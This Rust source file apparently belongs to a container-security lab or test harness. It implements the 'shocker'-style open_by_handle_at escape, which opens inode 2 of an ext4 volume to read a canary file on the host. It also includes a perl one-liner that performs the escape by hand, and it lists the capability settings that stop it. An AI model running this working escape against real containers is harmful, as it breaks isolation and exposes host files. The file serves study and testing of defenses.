//! open-by-handle: open the host's files by their inode numbers.

use super::{Attack, Attempt, Measured, Need};
use crate::inside::canary::canary;
use crate::{Host, Inside, Seen};
use nix::errno::Errno;
use nix::fcntl::{OFlag, open};
use nix::libc;
use nix::sys::stat::Mode;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "open-by-handle",
    stake: "Every file of a file system of which the container has one directory.",
    story: "A file server finds a file by its handle, in most file systems an inode number, and no path is \
            walked. open_by_handle_at(2) gives that to any program that has CAP_DAC_READ_SEARCH. The attacker \
            takes a volume, which is one directory of a file system of the host's, and asks for inode 2: the top \
            directory of every ext4. From there it opens the canary. No mount, no root directory and no \
            namespace is in its way, only the capability is. The exploit \"shocker\" left the first Docker \
            containers so.",
    by_hand: &[
        "[ -e /dev/null ] || touch /dev/null",
        r#"perl -e 'open V, "/data"; $h = pack "IiII", 8, 1, 2, 0; $d = syscall 304, fileno V, $h, 0; syscall(81, $d) or exec "ls"'    # x86-64"#,
    ],
    stopped_by: &["lab4-capabilities/bounding-set", "lab4-capabilities/capability-sets"],
    after: &[],
    man: &["open_by_handle_at(2)", "capabilities(7)"],
    letters: Measured { root: "E EEEEBBB", user: "I IIIIIII", rootless: "I IIIIIII" },
    needs: &[Need::Ext4Volume],
    decisive: &[libc::SYS_open_by_handle_at, libc::SYS_openat, libc::SYS_pread64],
    attack: Attack::Inside(inside),
    witness,
};

/// `struct file_handle` with the content that ext4 gives it: FILEID_INO32_GEN in include/linux/exportfs.h.
#[repr(C)]
struct Handle {
    length: u32,
    kind: i32,
    inode: u32,
    generation: u32,
}

/// The top directory of an ext4: EXT4_ROOT_INO in fs/ext4/ext4.h. Generation 0 stands for any.
static TOP: Handle = Handle { length: 8, kind: 1, inode: 2, generation: 0 };

fn inside(me: &mut Inside) -> Result<(), Errno> {
    let directory = OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC;
    let at = |path: &str| open(path, directory, Mode::empty());
    // A container without the volume may still stand on the host's file system.
    let volume = at(&me.in_rootfs(me.given("ext4"))).or_else(|_| at("/"))?;
    me.decisive("open_by_handle_at({FILEID_INO32_GEN, inode 2}), openat(\"canary\")");
    // SAFETY: the handle has the length that it names; the call returns a descriptor, which we own.
    let top = unsafe {
        let number = libc::SYS_open_by_handle_at;
        let answer = libc::syscall(number, volume.as_raw_fd(), &raw const TOP, directory.bits());
        OwnedFd::from_raw_fd(Errno::result(answer)? as RawFd)
    };
    let found = canary(top, &[""])?;
    me.bring_out(&found);
    Ok(())
}

fn witness(host: &Host) -> Seen {
    if host.heard_secret("ext4") {
        return Seen::Effect("the attacker has read a file above its volume, by inode number".into());
    }
    Seen::Nothing
}
